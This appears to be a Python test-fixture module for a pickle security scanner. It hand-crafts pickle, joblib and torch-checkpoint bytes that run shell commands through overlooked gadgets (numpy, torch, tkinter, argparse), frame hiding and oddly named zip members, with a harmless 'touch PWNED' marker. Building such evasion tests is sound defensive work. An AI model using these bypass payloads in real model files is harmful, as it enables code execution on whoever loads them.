"""Small files that run code by way of what is on no list, or that readers take in two ways.

Made by hand, as those of `hostile_files`, and as harmless.
"""

import io
import struct
import zipfile

from hostile_files import call, many, name, new, number, pickled, row, state, table, text

OPENER = call(name("argparse", "FileType"), text("w"))
"""Given the name of a file, it makes one; it holds a plain value and no more."""
TOUCH = call(name("os", "system"), text("touch PWNED"))


def handed_over() -> dict[str, bytes]:
    """What calls an object that holds plain values alone."""
    generator = call(name("numpy.random._pickle", "__generator_ctor"), text("PWNED"), OPENER)
    rebuilt = call(
        name("torch._tensor", "_rebuild_from_type_v2"),
        OPENER,
        name("torch", "Tensor"),
        row(text("PWNED")),
        b"N",
    )
    mapped = call(name("builtins", "map"), OPENER, many(text("PWNED")))
    command = row(text("exec"), text("sh"), text("-c"), text("touch PWNED"))
    widget = new(name("tkinter", "Widget")) + table(tk=call(name("tkinter", "Tcl")), _w=command)
    return {
        "numpy's generator": pickled(generator),
        "torch's rebuilding": pickled(rebuilt),
        "map in a class's __new__": pickled(new(name("time", "struct_time"), mapped)),
        "an item of a widget": pickled(widget + b"b" + text("a") + number(1) + b"s"),
        "the place of a storage": pickled(_storage(_place())),
    }


def _place() -> bytes:
    return state(new(name("types", "SimpleNamespace")), startswith=OPENER)


def _storage(place: bytes) -> bytes:
    kind = name("torch", "FloatStorage")
    return row(text("storage"), kind, text("0"), place, number(1)) + b"Q0}"


def frame_behind_an_array() -> bytes:
    """A frame goes on behind an array: joblib takes the array's bytes from behind the frame."""
    hidden = TOUCH + b"0"
    swallowed = b"N0B" + struct.pack("<I", len(hidden))
    array = state(
        new(name("joblib.numpy_pickle", "NumpyArrayWrapper")),
        subclass=name("numpy", "ndarray"),
        shape=row(number(len(swallowed))),
        order=text("C"),
        dtype=call(name("numpy", "dtype"), text("u1"), b"\x89", b"\x88"),
        allow_mmap=b"\x89",
    )
    framed = array + b"N0" * (len(swallowed) // 2) + b"N" * (len(swallowed) % 2)
    frame = b"\x95" + struct.pack("<Q", len(framed)) + framed
    return b"\x80\x04" + frame + swallowed + hidden + b"0}."


def odd_zip(member: str, packed: int) -> bytes:
    """A zip that torch runs, of another spelling or compressed."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", packed) as archive:
        archive.writestr(f"archive/{member}", pickled(TOUCH))
        archive.writestr("archive/version", "3\n")
    return stream.getvalue()


TWO_WAYS = {
    "frame.joblib": frame_behind_an_array(),
    "frame.pkl": frame_behind_an_array(),
    "deflated.bin": odd_zip("data.pkl", zipfile.ZIP_DEFLATED),
    "spelt.dat": odd_zip("DATA.PKL", zipfile.ZIP_STORED),
}


def magic(first: bytes, second: bytes) -> bytes:
    """A legacy checkpoint whose two numbers are what `first` and `second` make."""
    kind = new(name("torch.nn.modules.linear", "Identity")) + table(training=b"\x88") + b"b"
    return b"".join(map(pickled, (first, second, table(little_endian=b"\x88"), kind, many())))


BY_A_NAME = name("torch.serialization", "MAGIC_NUMBER")
BY_A_CALL = call(name("builtins", "int"), text("119547037146038801333356"))
VERSION = b"M\xe9\x03"
MAGIC = {
    "a name": magic(BY_A_NAME, VERSION),
    "a call": magic(BY_A_CALL, VERSION),
    "two calls": magic(BY_A_CALL, call(name("builtins", "int"), text("1001"))),
}
